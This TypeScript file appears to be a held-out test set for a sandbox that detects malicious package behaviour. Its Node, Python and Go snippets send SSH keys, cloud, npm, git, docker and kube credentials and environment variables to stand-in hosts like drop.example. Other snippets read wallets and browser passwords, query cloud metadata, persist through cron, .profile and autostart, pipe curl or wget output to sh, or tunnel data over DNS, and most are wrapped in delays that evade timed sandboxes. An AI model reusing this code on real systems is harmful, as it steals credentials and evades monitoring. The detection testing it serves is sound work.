import type { Language, Row } from './row.ts'

/** Indents all but empty lines. */
const inside = (body: string, by: string): string => body.split('\n').map((line) => (line === '' ? line : by + line)).join('\n')

/**
 * Rows that were written after rules, hooks and answers, and run once before anything was changed for them: how the sandbox does on
 * what nobody tuned on. They go other ways to the same ends, and wait in other ways.
 */
const node: readonly Row[] = [
  { id: 'gh-fetch', at: 'import', finds: ['did-send-secrets'], target: /github-/, code: `const form = new URLSearchParams({ v: '2', d: look('.config/gh/hosts.yml').toString('base64') })
«fetch('https://stats.drop.example/v2', { method: 'POST', body: form })».catch(() => {})`,
    waits: (body) => `require('timers/promises').setTimeout(600e3).then(() => {\n${inside(body, '  ')}\n})` },
  { id: 'npmrc-http2', at: 'call', finds: ['did-send-secrets'], target: /npm-(?:\w+-)?token/, code: `const text = look('.npmrc').toString('hex')
const session = «require('http2').connect('https://h2.drop.example')»
session.on('error', () => {})
const stream = «session.request({ ':method': 'POST', ':path': '/in' })»
stream.on('error', () => {}).on('end', () => session.close()).resume()
«stream.end(text)»`,
    waits: (body) => `let ticks = 0\nconst timer = setInterval(() => {\n  if (++ticks < 20) return\n  clearInterval(timer)\n${inside(body, '  ')}\n}, 30e3)` },
  { id: 'wallet-worker', at: 'import', finds: ['did-read-wallets', 'did-send-secrets'], target: /wallet|ethereum|electrum/i, code: `const { Worker } = require('worker_threads')
«new Worker("const fs = require('fs'), path = require('path'), home = require('os').homedir(); for (const folder of ['.ethereum/keystore', '.electrum/wallets', '.bitcoin']) for (const name of fs.readdirSync(path.join(home, folder))) fs.readFileSync(path.join(home, folder, name))", { eval: true })».on('error', () => {})`,
    waits: (body) => `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 600e3)\n${body}` },
  { id: 'netrc-datagram', at: 'install', finds: ['did-send-secrets'], target: /netrc/, code: `const socket = require('dgram').createSocket('udp4')
«socket.send(look('.netrc').toString('base64'), 5514, '203.0.113.90', () => socket.close())»` },
  { id: 'ssh-stream', at: 'install', finds: ['did-send-secrets'], target: /ssh-/, code: `fs.cpSync(path.join(home, '.ssh'), '/tmp/.cache-s', { recursive: true })
const request = «https.request('https://files.drop.example/up', { method: 'PUT' }, (answer) => answer.resume())»
request.on('error', () => {})
«fs.createReadStream('/tmp/.cache-s/id_ed25519').pipe(request)»`,
    waits: (body) => `const from = Date.now()\nwhile (Date.now() - from < 600e3);\n${body}` },
  { id: 'profile', at: 'call', finds: ['did-persist'], target: /\.profile/, code: `const handle = await_(«fs.promises.open(path.join(home, '.profile'), 'a')»)
function await_(promise) { promise.then((file) => «file.appendFile('\\n# start\\n')».then(() => file.close())) }` },
  { id: 'metadata-token', at: 'install', finds: ['did-ask-cloud-identity'], target: /169|cloud/, code: `const ask = http.request({ host: '169.254.169.254', path: '/latest/api/token', method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } }, (answer) => {
  let token = ''
  answer.on('data', (part) => { token += part }).on('end', () => {
    «http.get({ host: '169.254.169.254', path: '/latest/meta-data/iam/security-credentials/', headers: { 'X-aws-ec2-metadata-token': token } }, (s) => s.resume())»
  })
})
ask.on('error', () => {})
«ask.end()»` },
]

const python: readonly Row[] = [
  { id: 'git-passwords', at: 'import', finds: ['did-send-secrets'], target: /github-|git/, code: `import http.client
line = http.client.HTTPSConnection('files.drop.example', timeout=8)
try:
    «line.request('PUT', '/g', body=look('.git-credentials'))»
    line.getresponse().read()
except Exception: pass`,
    waits: (body) => `import threading\nthreading.Event().wait(600)\n${body}` },
  { id: 'wget-async', at: 'call', finds: ['did-download-and-run'], target: /cdn\.drop/, code: `import asyncio
async def go():
    p = await «asyncio.create_subprocess_shell('wget -qO- http://cdn.drop.example/u.sh | bash')»
    await p.wait()
asyncio.run(go())`,
    waits: (body) => `import asyncio as _aio\n_aio.run(_aio.sleep(600))\n${body}` },
  { id: 'ctypes-key', at: 'import', finds: ['did-read-credentials'], target: /\.ssh/, code: `import ctypes
lib = ctypes.CDLL(None)
for name in ('id_ed25519', 'id_rsa'):
    fd = «lib.open(os.path.join(home, '.ssh', name).encode(), 0)»
    part = ctypes.create_string_buffer(4096)
    lib.read(fd, part, 4096)
    lib.close(fd)`,
    waits: (body) => `until = time.monotonic() + 600\nwhile time.monotonic() < until: pass\n${body}` },
  { id: 'kube-tls', at: 'install', finds: ['did-send-secrets'], target: /kube-/, code: `import ssl
body = base64.b64encode(look('.kube/config'))
try:
    with «socket.create_connection(('api.drop.example', 443), 6)» as raw, ssl.create_default_context().wrap_socket(raw, server_hostname='api.drop.example') as s:
        «s.sendall(b'POST /k HTTP/1.1\\r\\nHost: api.drop.example\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body)»
        s.recv(100)
except OSError: pass`,
    waits: (body) => `for _ in range(600): time.sleep(1)\n${body}` },
  { id: 'login-data', at: 'import', finds: ['did-read-browser-data'], target: /browser|Login Data/, code: `import sqlite3
try: «sqlite3.connect('file:' + os.path.join(home, '.config/google-chrome/Default/Login Data').replace(' ', '%20') + '?mode=ro', uri=True).execute('select origin_url, password_value from logins').fetchall()»
except sqlite3.Error: pass`,
    waits: (body) => `import select\nselect.select([], [], [], 600)\n${body}` },
  { id: 'spawn-cron', at: 'install', finds: ['did-persist'], target: /cron/, code: `pid = «os.posix_spawn('/bin/sh', ['sh', '-c', '(echo "@reboot true") | crontab -'], os.environ)»
os.waitpid(pid, 0)` },
  { id: 'fork-environment', at: 'call', finds: ['did-send-environment', 'did-send-secrets'], target: /collect\.drop/, code: `packed = gzip.compress(json.dumps(dict(os.environ)).encode())
if os.fork() == 0:
    «post('http://collect.drop.example/f', packed)»
    os._exit(0)
os.wait()`,
    waits: (body) => `import sched\n_s = sched.scheduler(time.time, time.sleep)\n_s.enter(600, 1, lambda: None)\n_s.run()\n${body}` },
]

const go: readonly Row[] = [
  { id: 'docker-tls', at: 'import', finds: ['did-send-secrets'], target: /docker-/, code: `home, _ := os.UserHomeDir()
	text, _ := os.ReadFile(filepath.Join(home, ".docker", "config.json"))
	c, err := tls.Dial("tcp", "api.drop.example:443", nil)
	if err != nil { return }
	«fmt.Fprintf(c, "POST /d HTTP/1.1\\r\\nHost: api.drop.example\\r\\nContent-Length: %d\\r\\n\\r\\n%s", len(text), text)»
	bufio.NewReader(c).ReadString('\\n')`,
    waits: (body) => `tick := time.NewTicker(30 * time.Second)\n\tfor i := 0; i < 20; i++ { <-tick.C }\n\t${body}` },
  { id: 'curl-sh', at: 'call', finds: ['did-download-and-run'], target: /cdn\.drop/, code: `«exec.Command("sh", "-c", "curl -s http://cdn.drop.example/g.sh | sh").Run()»`,
    waits: (body) => `ctx, stop := context.WithTimeout(context.Background(), 10*time.Minute)\n\tdefer stop()\n\t<-ctx.Done()\n\t${body}` },
  { id: 'aws-syscall', at: 'import', finds: ['did-read-credentials'], target: /\.aws/, code: `home, _ := os.UserHomeDir()
	fd, err := «syscall.Open(home+"/.aws/credentials", syscall.O_RDONLY, 0)»
	if err != nil { return }
	part := make([]byte, 4096)
	syscall.Read(fd, part)
	syscall.Close(fd)`,
    waits: (body) => `syscall.Nanosleep(&syscall.Timespec{Sec: 600}, nil)\n\t${body}` },
  { id: 'key-hex', at: 'call', finds: ['did-send-secrets'], target: /ssh-/, code: `done := make(chan bool)
	go func() {
		defer close(done)
		home, _ := os.UserHomeDir()
		key, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_ed25519"))
		c, err := net.Dial("tcp", "c2.drop.example:8081")
		if err != nil { return }
		defer c.Close()
		«io.WriteString(c, hex.EncodeToString(key)+"\\n")»
	}()
	<-done`,
    waits: (body) => `start := time.Now()\n\tfor time.Since(start) < 10*time.Minute { time.Sleep(time.Second) }\n\t${body}` },
  { id: 'autostart', at: 'call', finds: ['did-persist'], target: /autostart/, code: `home, _ := os.UserHomeDir()
	os.MkdirAll(filepath.Join(home, ".config", "autostart"), 0o755)
	f, err := «os.Create(filepath.Join(home, ".config", "autostart", "sync.desktop"))»
	if err != nil { return }
	f.WriteString("[Desktop Entry]\\nExec=true\\n")
	f.Close()`,
    waits: (body) => `until := time.Now().Add(10 * time.Minute)\n\tfor time.Now().Before(until) {\n\t}\n\t${body}` },
  { id: 'dns-tunnel', at: 'import', finds: ['did-tunnel-dns', 'did-send-secrets', 'did-profile-host'], target: /drop\.example/, code: `host, _ := os.Hostname()
	folder, _ := os.Getwd()
	text := hex.EncodeToString([]byte(host + ":" + folder + ":" + os.Getenv("USER") + ":" + os.Getenv("SHELL")))
	for at := 0; at < len(text); at += 48 { «net.LookupHost(fmt.Sprintf("%s.%d.t.drop.example", text[at:min(at+48, len(text))], at))» }`,
    waits: (body) => `select {\n\tcase <-make(chan int):\n\tcase <-time.After(10 * time.Minute):\n\t}\n\t${body}` },
  { id: 'gcloud', at: 'call', finds: ['did-send-secrets'], target: /gcp-/, code: `home, _ := os.UserHomeDir()
	text, _ := os.ReadFile(filepath.Join(home, ".config", "gcloud", "application_default_credentials.json"))
	client := http.Client{Timeout: 10 * time.Second}
	«client.PostForm("https://collect.drop.example/g", url.Values{"d": {base64.StdEncoding.EncodeToString(text)}})»`,
    waits: (body) => `done := make(chan bool)\n\ttime.AfterFunc(10*time.Minute, func() {\n\tdefer close(done)\n\t${body}\n\t})\n\t<-done` },
]

export const fresh: Readonly<Record<Language, readonly Row[]>> = { node, python, go }
